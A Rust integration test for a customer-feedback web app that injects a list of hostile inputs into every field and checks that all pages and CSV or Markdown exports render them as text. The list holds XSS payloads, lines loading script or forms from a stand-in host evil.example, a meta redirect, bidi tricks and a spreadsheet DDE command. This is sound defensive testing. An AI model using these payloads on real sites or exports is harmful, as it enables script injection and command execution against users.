//! Whatever customers write is text, on every page and in every export.

use std::collections::BTreeSet;

use axum::http::Method;
use sada::access::Role;
use sada::web::pages::locale::Locale;
use serde_json::json;

use crate::pages::Browser;
use crate::support::TestApp;
use crate::walk::{Seen, walk};

/// A word that stands in each of them and nowhere else.
const CANARY: &str = "xq7";

/// What people may write who want more than to be read; in any field that they can fill.
pub(crate) const NASTY: &[&str] = &[
    "<script>window.xq7=1</script> الطلب تأخر",
    "</title></textarea></style></script><script src=//evil.example/xq7.js></script>",
    "<img src=x onerror=\"window.xq7=1\"> late again",
    "<svg/onload=window.xq7=1><xq7 a=b>",
    "\"><xq7 onmouseover=window.xq7=1 x=\"",
    "' onfocus='window.xq7=1' autofocus tabindex='0' x='xq7",
    "<a href=\"javascript:window.xq7=1\">xq7</a> [xq7](javascript:window.xq7=1)",
    "<iframe srcdoc=\"<script>parent.xq7=1</script>\"></iframe> xq7",
    "<style>@import url(//evil.example/xq7.css)</style><link rel=stylesheet href=//evil.example/xq7>",
    "<form action=//evil.example/xq7><button>ok</button></form><meta http-equiv=refresh content=0;url=//evil.example>",
    "<!--xq7--><![CDATA[xq7]]><?xq7?> &lt;xq7&gt; &#60;xq7&#62; &amp;lt;xq7",
    "{{ xq7 }} {% raw %} ${xq7} #{xq7} <%= xq7 %>",
    "\u{202e}xq7 txt.exe\u{202c} \u{2067}xq7\u{2069} \u{200f}xq7\u{200e} \u{200f}متأخر\u{200e}",
    "=cmd|' /C calc'!xq7",
    "+xq7()+1 متأخر",
    "-xq7()-1 refund",
    "@SUM(xq7)*1",
    "\t=xq7()",
    "xq7 \u{0} \u{1b}[31m \u{feff}\u{fffe} \u{d7ff} \u{202e}",
    "xq7 ⟦overview-title⟧ { $n }",
];

/// Imports each of them as text, and in every other field.
pub(crate) async fn fill(app: &TestApp) {
    let mut items = Vec::new();
    for (number, nasty) in NASTY.iter().enumerate() {
        let text: String = nasty.replace('\u{0}', "");
        let short: String = text.chars().take(60).collect();
        for (copy, trouble) in ["my card was stolen", "سرقوا بطاقتي", "refund never came"].iter().enumerate()
        {
            items.push(json!({
                "external_id": format!("{number}-{copy}"),
                "text": format!("{text} {trouble}"),
                "question": text,
                "customer": short,
                "touchpoint": short,
                "rating": { "method": "csat", "value": 1 },
                "metadata": { "segment": short, short.clone(): text },
            }));
        }
    }
    for item in items {
        let sent = app.call(Method::POST, "/v1/feedback", &item).await;
        assert!(sent.status.is_success() || sent.status.as_u16() == 422, "{item}: {}", sent.text);
    }
    app.work().await;
    for work in ["/v1/themes/regroup", "/v1/personas/runs"] {
        app.call(Method::POST, work, &json!({})).await;
        app.work().await;
    }
}

/// Elements that none of our pages has.
const FOREIGN: [&str; 7] = ["iframe", "img", "object", "embed", "base", "style", "frame"];

/// What on a page comes from a customer and is more than text.
fn more_than_text(page: &Seen) -> Vec<String> {
    let mut found = Vec::new();
    for element in &page.html.elements {
        let name = element.name.as_str();
        let ours = element.get("src").is_some_and(|src| src.starts_with("/assets/"));
        if FOREIGN.contains(&name) || name.contains(CANARY) || (name == "script" && !ours) {
            found.push(format!("an element: {}", element.tag()));
        }
        for (attribute, value) in &element.attributes {
            let runs = attribute.starts_with("on") || ["srcdoc", "style"].contains(&attribute.as_str());
            let leads_on = element.name == "meta" && value.to_lowercase().contains("url=");
            let leads = ["href", "src", "action", "formaction", "xlink:href"].contains(&attribute.as_str());
            let here = value.starts_with('#') || (value.starts_with('/') && !value.starts_with("//"));
            if runs || leads_on || attribute.contains(CANARY) || (leads && !here) {
                found.push(format!("an attribute: {}", element.tag()));
            }
        }
    }
    let turned = page.html.texts.iter().filter(|(_, text)| text.contains(['\u{202d}', '\u{202e}']));
    found.extend(turned.map(|(_, text)| format!("a turn of direction: {text}")));
    found.extend(page.html.odd.iter().cloned());
    found
}

/// What in a file would be more than text to a program that opens it: a formula in a cell, markup or an address in
/// Markdown.
fn dangerous(kind: &str, text: &str) -> Option<String> {
    if kind.starts_with("text/csv") {
        let mut table = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
        let cells: Vec<String> =
            table.records().flatten().flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>()).collect();
        return cells.into_iter().find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
    }
    if kind.starts_with("text/markdown") {
        let signs = ["<script", "<img", "<svg", "<xq7", "<iframe", "](javascript:", "\u{202e}"];
        return signs.into_iter().find(|sign| text.contains(sign)).map(str::to_owned);
    }
    None
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_customers_write_is_text_on_every_page() {
    let app = TestApp::start().await;
    fill(&app).await;
    for locale in [Locale::Arabic, Locale::English] {
        let browser = Browser::signed_in(&app, Role::Admin, locale).await;
        let search = |nasty: &&str| {
            let query = form_urlencoded::Serializer::new(String::new()).append_pair("q", nasty).finish();
            format!("/search?{query}")
        };
        let searches: Vec<String> = NASTY.iter().filter(|nasty| !nasty.contains('\u{0}')).map(search).collect();
        let from: Vec<&str> = std::iter::once("/").chain(searches.iter().map(String::as_str)).collect();
        let walked = walk(&browser, &from).await;
        let seen = walked.pages;
        let mut wrong: BTreeSet<String> = seen
            .iter()
            .flat_map(|page| more_than_text(page).into_iter().map(move |found| format!("{}: {found}", page.path)))
            .collect();
        wrong.extend(
            walked
                .files
                .iter()
                .filter_map(|(path, kind, text)| dangerous(kind, text).map(|found| format!("{path}: {found}"))),
        );
        assert!(wrong.is_empty(), "{locale}\n{}", Vec::from_iter(wrong).join("\n"));
        let shown = seen.iter().filter(|page| page.html.texts.iter().any(|(_, text)| text.contains(CANARY))).count();
        assert!(shown > 20, "{locale}: only {shown} of {} pages show such texts", seen.len());
    }
    app.finish().await;
}
